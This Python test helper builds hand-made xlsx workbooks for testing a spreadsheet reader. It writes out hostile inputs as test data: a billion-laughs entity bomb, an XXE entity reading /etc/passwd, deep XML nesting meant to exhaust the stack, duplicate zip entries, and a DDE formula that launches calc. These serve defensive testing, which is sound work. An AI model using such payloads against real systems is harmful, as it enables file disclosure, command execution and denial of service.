"""Werkmappen by hand: a minimal xlsx (inline or shared strings) whose XML parts a test
can write as it likes, so that hostile XML (deep nesting, entity expansion, external
entities), raw control characters and duplicate zip entries reach the reader exactly as
written. A spreadsheet program would refuse to write most of this; an attacker would not.
"""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Sequence
from xml.sax.saxutils import escape

from koppel.files.readers import column_letter

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Leerlingen" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
PROLOG = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHEET = "xl/worksheets/sheet1.xml"
SHARED = "xl/sharedStrings.xml"

Grid = Sequence[Sequence[str]]


def sheet_xml(grid: Grid, *, shared: bool = False, prolog: str = PROLOG) -> str:
    """A worksheet with every cell a text: inline, or an index into the shared strings
    (in the order of :func:`shared_strings_xml`)."""
    rows = []
    index = 0
    for r, row in enumerate(grid, start=1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{column_letter(c)}{r}"
            if shared:
                cells.append(f'<c r="{ref}" t="s"><v>{index}</v></c>')
                index += 1
            else:
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>')
        rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    return f"{prolog}<worksheet {MAIN}><sheetData>{''.join(rows)}</sheetData></worksheet>"


def shared_strings_xml(grid: Grid, *, prolog: str = PROLOG) -> str:
    texts = [value for row in grid for value in row]
    items = "".join(f"<si><t>{escape(t)}</t></si>" for t in texts)
    return f'{prolog}<sst {MAIN} count="{len(texts)}" uniqueCount="{len(texts)}">{items}</sst>'


def workbook_parts(grid: Grid, *, shared: bool = False) -> dict[str, str | bytes]:
    """The parts of a one-sheet workbook holding ``grid``, by name in the zip."""
    return {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        SHEET: sheet_xml(grid, shared=shared),
        SHARED: shared_strings_xml(grid) if shared else f'{PROLOG}<sst {MAIN} count="0"/>',
    }


def zip_bytes(parts: Sequence[tuple[str, str | bytes]]) -> bytes:
    """A zip of ``parts`` in order; a name given twice is written twice (zipfile warns,
    and is told to be quiet: a duplicate entry is the point)."""
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in parts:
                archive.writestr(name, data)
    return out.getvalue()


def workbook_bytes(grid: Grid, *, shared: bool = False) -> bytes:
    return zip_bytes(list(workbook_parts(grid, shared=shared).items()))


# --- hostile XML --------------------------------------------------------------------------


def deep_sheet(grid: Grid, depth: int) -> str:
    """The worksheet with ``depth`` unknown elements nested inside its first cell's text
    holder: a parser that recurses per level runs out of stack."""
    xml = sheet_xml(grid)
    nested = "<x>" * depth + "</x>" * depth
    return xml.replace("<is><t>", f"<is>{nested}<t>", 1)


def deep_shared_strings(grid: Grid, depth: int) -> str:
    xml = shared_strings_xml(grid)
    nested = "<r>" * depth + "</r>" * depth
    return xml.replace("<si>", f"<si>{nested}", 1)


def billion_laughs(levels: int = 10) -> str:
    """The classic entity expansion: ``&lol9;`` grows to 10**levels copies of ``lol``."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels)
    ]
    return (
        f"{PROLOG}<!DOCTYPE sst [{''.join(entities)}]>"
        f'<sst {MAIN} count="1" uniqueCount="1"><si><t>&lol{levels - 1};</t></si></sst>'
    )


def external_entity(target: str = "file:///etc/passwd") -> str:
    """XXE: a shared string that a careless parser fills with a local file's content."""
    return (
        f'{PROLOG}<!DOCTYPE sst [<!ENTITY xxe SYSTEM "{target}">]>'
        f'<sst {MAIN} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    )


def formula_sheet(grid: Grid) -> str:
    """The worksheet with formulas in B2 (a HYPERLINK that Excel calculated: its saved
    value is the cell's text), C2 (DDE, saved value ``Zoë``) and D2 (never calculated: no
    saved value)."""
    xml = sheet_xml(grid)
    cells = {
        "B2": '<c r="B2" t="str"><f>HYPERLINK("http://example.org/?"&amp;A1,"x")</f>'
        f"<v>{escape(grid[1][1])}</v></c>",
        "C2": """<c r="C2" t="str"><f>cmd|' /C calc'!A0</f><v>Zoë</v></c>""",
        "D2": '<c r="D2"><f>1+1</f></c>',
    }
    for ref, cell in cells.items():
        start = xml.index(f'<c r="{ref}"')
        end = xml.index("</c>", start) + len("</c>")
        xml = xml[:start] + cell + xml[end:]
    return xml


STYLES = (
    f"{PROLOG}<styleSheet {MAIN}>"
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="dd-mm-yyyy"/></numFmts>'
    '<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="164" applyNumberFormat="1"/>'
    '<xf numFmtId="20" applyNumberFormat="1"/></cellXfs></styleSheet>'
)
DATE_STYLE, TIME_STYLE = 1, 2
"""Cell styles of :data:`STYLES`: a date (dd-mm-yyyy) and a time (h:mm)."""


def number_cell_parts(grid: Grid, ref: str, number: str, style: int) -> dict[str, str | bytes]:
    """The workbook with a styles part, and cell ``ref`` a number (as written in the XML)
    shown as a date or time: what a spreadsheet turns into a date when it is read."""
    parts = workbook_parts(grid)
    sheet = str(parts[SHEET])
    start = sheet.index(f'<c r="{ref}"')
    end = sheet.index("</c>", start) + len("</c>")
    parts[SHEET] = f'{sheet[:start]}<c r="{ref}" s="{style}"><v>{number}</v></c>{sheet[end:]}'
    parts["xl/styles.xml"] = STYLES
    parts["xl/_rels/workbook.xml.rels"] = WORKBOOK_RELS.replace(
        "</Relationships>",
        '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/styles" Target="styles.xml"/></Relationships>',
    )
    parts["[Content_Types].xml"] = CONTENT_TYPES.replace(
        "</Types>",
        '<Override PartName="/xl/styles.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>',
    )
    return parts
